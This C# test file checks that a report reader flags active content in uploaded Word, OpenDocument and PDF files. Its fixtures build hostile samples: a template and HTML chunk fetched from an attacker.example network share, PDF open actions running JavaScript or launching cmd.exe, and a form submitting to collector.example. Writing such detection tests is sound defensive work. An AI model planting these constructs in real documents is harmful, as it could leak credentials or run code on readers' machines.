using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using PacSubmissions.Reports;
using PacSubmissions.Tests.Infrastructure;
using PacSubmissions.Tests.Reports.Extraction;
using UglyToad.PdfPig;
using UglyToad.PdfPig.Tokens;
using static PacSubmissions.Tests.Reports.TestDocuments;

namespace PacSubmissions.Tests.Reports;

/// <summary>
/// Files that act when HQ opens them (issue 17, point 2): each is still read for its answers, and carries the problem
/// <c>active-content</c> naming what it found. Ordinary documents, hyperlinks, pictures and charts are not flagged.
/// </summary>
public sealed partial class ActiveContentTests
{
    private const string Rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    // ---------- Word, built with the Open XML SDK the way Word lays each part out ----------

    /// <summary>The whole English form, answered: a plain copy of it reads valid.</summary>
    private static OpenXmlElement[] FormBody() =>
        [.. FormText.English.Pairs.SelectMany(p => new OpenXmlElement[] { Bold(p.Question), Plain(p.Answer) })];

    private static byte[] WordDocument(Action<MainDocumentPart, Body> add)
    {
        using var memory = new MemoryStream();
        using (var document = WordprocessingDocument.Create(memory, WordprocessingDocumentType.Document))
        {
            var main = document.AddMainDocumentPart();
            main.Document = new Document(new Body(FormBody()));
            add(main, main.Document.Body!);
        }

        return memory.ToArray();
    }

    /// <summary>
    /// What Word writes for Developer > Document Template with a template on a share: w:attachedTemplate in settings.xml,
    /// its target in word/_rels/settings.xml.rels as an external relationship.
    /// </summary>
    internal static byte[] AttachedTemplateDocx() =>
        WordDocument((main, _) =>
        {
            var settings = main.AddNewPart<DocumentSettingsPart>();
            var template = settings.AddExternalRelationship(Rel + "attachedTemplate", new Uri(@"file:///\\attacker.example\share\Normal.dotm"));
            settings.Settings = new Settings(new AttachedTemplate { Id = template.Id });
        });

    [Fact]
    public async Task WordTemplateAttachedFromANetworkShareIsActiveContentAndTheAnswersStillCount()
    {
        var docx = AttachedTemplateDocx();

        var reading = await ReadAsync(docx);

        Assert.Equal(ReportStatus.Valid, reading.Status);
        var problem = Assert.Single(reading.Problems, p => p.Code == ProblemCodes.ActiveContent);
        Assert.Contains("attached template", problem.Message, StringComparison.Ordinal);
        Assert.Contains("attacker.example", problem.Message, StringComparison.Ordinal);
        Assert.Equal(8, reading.Sections.Count(s => s.Answered));
    }

    [Fact]
    public async Task EmbeddedOleObjectIsActiveContent()
    {
        // Insert > Object: a VML shape with o:OLEObject pointing at word/embeddings/oleObject1.bin.
        var docx = WordDocument((main, body) =>
        {
            var ole = main.AddEmbeddedObjectPart("application/vnd.openxmlformats-officedocument.oleObject");
            using (var data = new MemoryStream([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]]))
            {
                ole.FeedData(data);
            }

            var id = main.GetIdOfPart(ole);
            body.Append(new Paragraph(new Run(new EmbeddedObject(
                new DocumentFormat.OpenXml.Vml.Shape { Id = "_x0000_i1025", Style = "width:72pt;height:36pt" },
                new DocumentFormat.OpenXml.Vml.Office.OleObject
                {
                    Type = DocumentFormat.OpenXml.Vml.Office.OleValues.Embed,
                    ProgId = "Package",
                    ShapeId = "_x0000_i1025",
                    DrawAspect = DocumentFormat.OpenXml.Vml.Office.OleDrawAspectValues.Icon,
                    ObjectId = "_1700000000",
                    Id = id,
                })
            { DxaOriginal = "1440", DyaOriginal = "720" })));
        });

        var reading = await ReadAsync(docx);

        AssertActive(reading, "OLE object");
    }

    [Fact]
    public async Task AltChunkImportingHtmlIsActiveContent()
    {
        // The SDK's own way to merge a file into a document: an AlternativeFormatImportPart and w:altChunk in the body.
        var docx = WordDocument((main, body) =>
        {
            var chunk = main.AddAlternativeFormatImportPart(AlternativeFormatImportPartType.Html, "altChunk1");
            using (var html = new MemoryStream(Encoding.UTF8.GetBytes("<html><body><img src=\"\\\\attacker.example\\share\\p.png\"></body></html>")))
            {
                chunk.FeedData(html);
            }

            body.Append(new AltChunk { Id = "altChunk1" });
        });

        var reading = await ReadAsync(docx);

        AssertActive(reading, "altChunk");
    }

    [Fact]
    public async Task ActiveXControlIsActiveContent()
    {
        // Developer > Legacy tools > ActiveX: word/activeX/activeX1.xml, reached from the body by a "control" relationship.
        var docx = WordDocument((main, body) =>
        {
            var control = main.AddNewPart<EmbeddedControlPersistencePart>("application/vnd.ms-office.activeX+xml", "rIdControl1");
            using (var xml = new MemoryStream(Encoding.UTF8.GetBytes(
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?><ax:ocx ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\" ax:persistence=\"persistPropertyBag\" xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>")))
            {
                control.FeedData(xml);
            }

            body.Append(new Paragraph(new Run(new EmbeddedObject(new Control { Id = "rIdControl1", Name = "CheckBox1" }))));
        });

        var reading = await ReadAsync(docx);

        AssertActive(reading, "ActiveX");
    }

    [Fact]
    public async Task LinkedSubDocumentIsActiveContent()
    {
        // A master document: w:subDoc whose relationship names the other file, external.
        var docx = WordDocument((main, body) =>
        {
            var sub = main.AddExternalRelationship(Rel + "subDocument", new Uri("file:///C:/Reports/annex.docx"));
            body.Append(new Paragraph(new SubDocumentReference { Id = sub.Id }));
        });

        var reading = await ReadAsync(docx);

        AssertActive(reading, "sub-document from file:///C:/Reports/annex.docx");
    }

    [Fact]
    public async Task HyperlinksAndPicturesAreNotActiveContent()
    {
        var docx = WordDocument((main, body) =>
        {
            var link = main.AddHyperlinkRelationship(new Uri("https://www.ifla.org/units/pac/"), isExternal: true);
            body.Append(new Paragraph(new Hyperlink(new Run(new Text("IFLA PAC"))) { Id = link.Id }));
            var picture = main.AddImagePart(ImagePartType.Png);
            using var png = new MemoryStream(Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg=="));
            picture.FeedData(png);
        });

        var reading = await ReadAsync(docx);

        Assert.Equal(ReportStatus.Valid, reading.Status);
        Assert.Empty(reading.Problems);
    }

    [Fact]
    public async Task VbaProjectIsStillMacroEnabledNotActiveContent()
    {
        var reading = await ReadAsync(Docx(WordprocessingDocumentType.MacroEnabledDocument, FormBody()));

        Assert.Equal(ReportStatus.Unreadable, reading.Status);
        Assert.Equal(ProblemCodes.MacroEnabled, Assert.Single(reading.Problems).Code);
    }

    // ---------- OpenDocument, made by LibreOffice (Reports/Documents/make-documents.sh) ----------

    /// <summary>Files LibreOffice and poppler made (Reports/Documents/make-documents.sh), each the whole form with one active thing.</summary>
    [Theory]
    [InlineData("active-script-link.odt", "a link that runs a script (vnd.sun.star.script:Standard.Module1.Fetch")]
    [InlineData("active-linked-section.odt", "a section linked from file://attacker.example/share/annex.odt")]
    [InlineData("active-pdf-attachment.pdf", "an embedded file")]
    [InlineData("active-hybrid.pdf", "hybrid PDF")]
    public async Task ProducedDocumentWithActiveContentIsFlaggedAndItsAnswersStillCount(string file, string named) =>
        AssertActive(await ReadAsync(ProducedDocuments.Bytes(file)), named);

    [Fact]
    public async Task OdtDocumentEventBoundToAMacroIsActiveContent()
    {
        // Tools > Customize > Events > Open Document, bound to a macro in My Macros: LibreOffice writes the binding into
        // content.xml's office:scripts (no Basic library in the file, so it is not "macro-enabled").
        var odt = WithContentXml(ProducedDocuments.Bytes("active-form.odt"), content => content.Replace("<office:scripts/>",
            "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\" "
            + "xlink:href=\"vnd.sun.star.script:Standard.Module1.Fetch?language=Basic&amp;location=application\" xlink:type=\"simple\"/>"
            + "</office:event-listeners></office:scripts>", StringComparison.Ordinal));

        var reading = await ReadAsync(odt);

        AssertActive(reading, "script run on an event (dom:load");
    }

    [Fact]
    public async Task PlainOdtIsNotActiveContent()
    {
        var reading = await ReadAsync(ProducedDocuments.Bytes("active-form.odt"));

        Assert.Equal(ReportStatus.Valid, reading.Status);
        Assert.Empty(reading.Problems);
    }

    private static byte[] WithContentXml(byte[] odt, Func<string, string> change)
    {
        using var memory = new MemoryStream();
        memory.Write(odt);
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Update, leaveOpen: true))
        {
            var entry = zip.GetEntry("content.xml")!;
            string content;
            using (var reader = new StreamReader(entry.Open()))
            {
                content = reader.ReadToEnd();
            }

            var changed = change(content);
            Assert.NotEqual(content, changed);
            entry.Delete();
            using var writer = new StreamWriter(zip.CreateEntry("content.xml").Open(), new UTF8Encoding(false));
            writer.Write(changed);
        }

        return memory.ToArray();
    }

    // ---------- PDF ----------

    [Fact]
    public async Task PlainLibreOfficePdfWithItsOpenActionIsNotActiveContent()
    {
        // LibreOffice's /OpenAction only opens page 1; that is no reason for a warning.
        var reading = await ReadAsync(ProducedDocuments.Bytes("active-form.pdf"));

        Assert.Equal(ReportStatus.Valid, reading.Status);
        Assert.Empty(reading.Problems);
    }

    public static TheoryData<string, string, string> PdfActions() => new()
    {
        // An incremental update, as Acrobat saves document JavaScript or an action added to a finished PDF.
        { "/OpenAction {0} 0 R", "<< /S /JavaScript /JS (app.launchURL\\(\"https://attacker.example/\"\\);) >>", "an action run on opening (JavaScript)" },
        { "/OpenAction {0} 0 R", "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", "an action run on opening (launch)" },
        { "/Names << /JavaScript << /Names [(init) {0} 0 R] >> >>", "<< /S /JavaScript /JS {1} 0 R >>\n%next\n<< /Length 8 >>\nstream\napp.beep\nendstream", "JavaScript" },
        { "/AcroForm << /Fields [{0} 0 R] >>", "<< /FT /Btn /T (Send) /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >> >>", "a form that submits data" },
    };

    [Theory]
    [MemberData(nameof(PdfActions))]
    public async Task PdfActionAddedToTheCatalogIsActiveContent(string catalogEntry, string objects, string named)
    {
        var pdf = WithCatalogEntry(ProducedDocuments.Bytes("active-form.pdf"), catalogEntry, objects.Split("\n%next\n"));

        var reading = await ReadAsync(pdf);

        AssertActive(reading, named);
    }

    [Fact]
    public async Task PdfRichMediaAnnotationIsActiveContent()
    {
        var original = ProducedDocuments.Bytes("active-form.pdf");
        var text = Encoding.Latin1.GetString(original);
        var page = PageObject().Match(text);
        Assert.True(page.Success);
        var pdf = IncrementalUpdate(original, next =>
        [
            (int.Parse(page.Groups["number"].Value, CultureInfo.InvariantCulture),
                page.Groups["body"].Value.TrimEnd()[..^2] + FormattableString.Invariant($"/Annots [{next} 0 R] >>")),
            (next, "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>"),
        ]);

        var reading = await ReadAsync(pdf);

        AssertActive(reading, "rich media");
    }

    [GeneratedRegex(@"(?<number>\d+) 0 obj\s*(?<body><<(?:(?!endobj).)*?/Type\s*/Page\b(?!s)(?:(?!endobj).)*?)\s*endobj", RegexOptions.Singleline)]
    private static partial Regex PageObject();

    /// <summary>The PDF with its catalog rewritten to carry <paramref name="catalogEntry"/>, whose {0}, {1}… are the added objects' numbers.</summary>
    private static byte[] WithCatalogEntry(byte[] pdf, string catalogEntry, string[] objects)
    {
        using var document = PdfDocument.Open(pdf);
        var root = document.Structure.Trailer.Root.ObjectNumber;
        var pages = (IndirectReferenceToken)document.Structure.Catalog.CatalogDictionary.Data["Pages"];
        return IncrementalUpdate(pdf, next =>
        {
            var numbers = Enumerable.Range(next, objects.Length).Select(n => (object)n).ToArray();
            return
            [
                (root, string.Format(CultureInfo.InvariantCulture, "<< /Type /Catalog /Pages {0} 0 R ", pages.Data.ObjectNumber)
                    + string.Format(CultureInfo.InvariantCulture, catalogEntry, numbers) + " >>"),
                .. objects.Select((o, i) => ((long)(next + i), string.Format(CultureInfo.InvariantCulture, o, numbers))),
            ];
        });
    }

    /// <summary>Appends a revision (objects, an xref section, a trailer with /Prev), as PDF editors save a change.</summary>
    private static byte[] IncrementalUpdate(byte[] pdf, Func<int, (long Number, string Body)[]> objects)
    {
        long size, previous;
        long root;
        using (var document = PdfDocument.Open(pdf))
        {
            size = document.Structure.Trailer.Size;
            previous = document.Structure.XrefOffset;
            root = document.Structure.Trailer.Root.ObjectNumber;
        }

        var added = objects((int)size);
        var output = new StringBuilder("\n");
        var offsets = new List<(long Number, long Offset)>();
        foreach (var (number, body) in added)
        {
            offsets.Add((number, pdf.Length + Encoding.Latin1.GetByteCount(output.ToString())));
            output.Append(CultureInfo.InvariantCulture, $"{number} 0 obj\n{body}\nendobj\n");
        }

        var xref = pdf.Length + Encoding.Latin1.GetByteCount(output.ToString());
        output.Append("xref\n");
        foreach (var (number, offset) in offsets.OrderBy(o => o.Number))
        {
            output.Append(CultureInfo.InvariantCulture, $"{number} 1\n{offset:D10} 00000 n \n");
        }

        var newSize = Math.Max(size, added.Max(a => a.Number) + 1);
        output.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {newSize} /Root {root} 0 R /Prev {previous} >>\nstartxref\n{xref}\n%%EOF\n");
        return [.. pdf, .. Encoding.Latin1.GetBytes(output.ToString())];
    }

    /// <summary>The reading is what its answers make it (the whole form: valid), with one active-content problem naming <paramref name="named"/>.</summary>
    private static void AssertActive(ReportReading reading, string named)
    {
        Assert.Equal(ReportStatus.Valid, reading.Status);
        Assert.Contains(named, Assert.Single(reading.Problems, p => p.Code == ProblemCodes.ActiveContent).Message, StringComparison.Ordinal);
    }

    // ---------- what is not active content ----------

    public static TheoryData<string> SampleFiles() => SampleReportTests.SampleFiles();

    [Theory]
    [MemberData(nameof(SampleFiles))]
    public async Task SampleReportIsNotActiveContent(string file)
    {
        await using var stream = File.OpenRead(Samples.PathOf(file));
        var reading = await Reader().ReadAsync(stream, CancellationToken.None);

        Assert.DoesNotContain(reading.Problems, p => p.Code == ProblemCodes.ActiveContent);
    }

    [Theory]
    [InlineData("odt-styles-changes-frames.odt")]
    [InlineData("odt-styles-changes-frames.docx")]
    [InlineData("pdf-hint-link.pdf")]
    [InlineData("browser-one-page.pdf")]
    [InlineData("browser-chinese.pdf")]
    public async Task DocumentFromAnOrdinaryProducerIsNotActiveContent(string file)
    {
        var reading = await ReadAsync(ProducedDocuments.Bytes(file));

        Assert.DoesNotContain(reading.Problems, p => p.Code == ProblemCodes.ActiveContent);
    }
}
